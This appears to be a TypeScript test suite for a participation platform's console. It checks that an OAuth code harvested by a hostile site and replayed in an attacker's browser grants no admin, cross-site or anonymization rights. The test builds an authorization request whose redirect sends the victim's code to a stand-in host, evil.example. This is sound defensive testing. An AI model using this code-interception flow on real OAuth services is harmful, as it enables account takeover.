import type { Somebody } from '../journeys/sentences/support/people.ts';
import { idsIn, refusal, startSentences, user, type SentenceWorld } from '../journeys/sentences/support/world.ts';
import { aVisitor, fromConsole, logIntoConsole, upToReturn } from '../support/visitor.ts';

/**
 * OpenStad's OAuth server gives the code of a client to whatever address that client allows, pages of its site among them, and takes it
 * from whoever comes with it. So whoever runs the pages of one site sends their visitors through a login there, and ends a login at the
 * console that they began themselves with the code that came. Source: docs/adr/0027.
 */
const [hostile, theirs, shared, platform] = [11, 12, 14, 13] as const;
let s: SentenceWorld;
/** Admin of the platform and of the other sites; a member at the hostile one. */
let victim: Somebody;
/** Member of the other site. */
let citizen: Somebody;
beforeAll(async () => {
  s = await startSentences(
    { [hostile]: {}, [theirs]: {}, [shared]: { client: hostile }, [platform]: {} },
    { platformSiteId: platform },
  );
  victim = await s.person({ at: { [hostile]: 'member', [theirs]: 'admin', [platform]: 'admin' } });
  citizen = await s.person({ at: { [theirs]: 'member' } });
});
afterAll(() => s.close());

/** What somebody's browser sends to the pages of the hostile site, when these send it through a login there. */
const codeOf = async (who: Somebody): Promise<string> => {
  const page = encodeURIComponent('https://evil.example/collect');
  const way = `${s.world.oauth.url}/dialog/authorize?redirect_uri=${page}&response_type=code&client_id=peer-client-${hostile}&scope=offline`;
  const sent = new URL(await upToReturn(aVisitor(), way, s.world.oauth.url, who.externalId));
  expect(sent.origin).toBe('https://evil.example');
  return sent.searchParams.get('code') ?? '';
};

type Ask = (method: string, path: string, body?: unknown) => ReturnType<SentenceWorld['world']['call']>;
const asking =
  (cookie: string): Ask =>
  (method, path, body) =>
    s.world.call(null, method, path, body, { ...fromConsole, Cookie: cookie });
const host = (): string => new URL(s.world.url).host;

/** A login that is begun in the attacker's own browser, and ends with the code of somebody else. */
const withStolenCode = async (who: Somebody, query = `?site=${hostile}`): Promise<Ask> => {
  const attacker = aVisitor();
  const begun = await attacker.open(`${s.world.url}/oauth/console/login${query}`);
  const back = new URL(begun.onward ?? '').searchParams.get('redirect_uri') ?? '';
  const done = await attacker.open(`${back}&code=${await codeOf(who)}`);
  expect(done.status).toBe(query === '' ? 403 : 302);
  return asking(attacker.cookieFor(host()));
};

describe('a code that the pages of one site got hold of', () => {
  test('makes no platform admin, nor staff of a site that is another client', async () => {
    const ask = await withStolenCode(victim);

    const seen = await ask('GET', '/api/session');

    expect(seen.body).toMatchObject({ platformAdmin: false, moderates: [] });
    expect(seen.body.users).toMatchObject([{ role: 'member' }, { role: 'member' }, { role: 'member' }]);
    expect(refusal(await ask('GET', '/api/site'))).toEqual([403, 'platform-admin-needed']);
    const there = user(theirs, citizen.at[theirs]!);
    expect((await ask('PUT', there, { city: 'Delft' })).status).toBe(403);
    expect((await ask('PUT', `${there}/do-anonymize`, {})).status).toBe(403);
    expect((await ask('DELETE', there)).status).toBe(403);
    expect((await ask('GET', `${there}/person`)).status).toBe(403);
    expect((await ask('GET', `/api/person?email=${encodeURIComponent(citizen.email)}`)).status).toBe(403);
    expect((await ask('GET', '/api/audit')).status).toBe(403);
    expect(await s.row(citizen.at[theirs]!)).toMatchObject({ role: 'member', anonymizedAt: null });
  });

  test('neither takes their rows elsewhere away nor gives them another way to log in', async () => {
    const ask = await withStolenCode(victim);

    const phone = await ask('PUT', user(theirs, victim.at[theirs]!), { phoneNumber: '0611111111' });
    const gone = await ask('PUT', `${user(theirs, victim.at[theirs]!)}/do-anonymizeall`, {});

    expect(refusal(phone)[0]).toBe(403);
    expect(refusal(gone)).toEqual([403, 'staff-by-own-site']);
  });

  test('is told of their rows at its own site what is kept, and of no other', async () => {
    const ask = await withStolenCode(victim);

    const here = await ask('GET', `${user(hostile, victim.at[hostile]!)}/export`);
    const there = await ask('GET', `${user(theirs, victim.at[theirs]!)}/export`);

    expect([here.status, idsIn(here.body.users)]).toEqual([200, [victim.at[hostile]]]);
    expect(refusal(there)).toEqual([403, 'owner-by-site-or-platform-admin']);
  });

  test('starts no run over a list that they planned at more sites', async () => {
    const boss = await s.person({ at: { [hostile]: 'admin', [theirs]: 'admin' } });
    const visitor = aVisitor();
    await logIntoConsole(visitor, { apiUrl: s.world.url, oauthUrl: s.world.oauth.url }, boss.externalId);
    const users = { users: [citizen.at[theirs]] };
    const planned = await asking(visitor.cookieFor(host()))('POST', '/api/anonymization-run', users);
    expect(planned.status).toBe(201);
    const run = `/api/anonymization-run/${planned.body.id}`;

    const ask = await withStolenCode(boss);

    expect((await ask('GET', run)).status).toBe(404);
    expect((await ask('POST', `${run}/start`)).status).toBe(404);
  });

  test('is none of the platform’s own client', async () => {
    const ask = await withStolenCode(victim, '');

    expect((await ask('GET', '/api/session')).status).toBe(401);
  });
});

test('a login through a site counts at the sites that are the same client, as one at each of them would', async () => {
  const boss = await s.person({ at: { [hostile]: 'moderator', [shared]: 'moderator', [theirs]: 'admin' } });
  const visitor = aVisitor();
  const flow = { apiUrl: s.world.url, oauthUrl: s.world.oauth.url };

  await logIntoConsole(visitor, { ...flow, query: `?site=${hostile}` }, boss.externalId);
  const through = await asking(visitor.cookieFor(host()))('GET', '/api/session');
  await logIntoConsole(visitor, flow, boss.externalId);
  const throughPlatform = await asking(visitor.cookieFor(host()))('GET', '/api/session');

  expect(idsIn(through.body.moderates)).toEqual([hostile, shared]);
  expect(idsIn(throughPlatform.body.moderates)).toEqual([hostile, theirs, shared]);
});
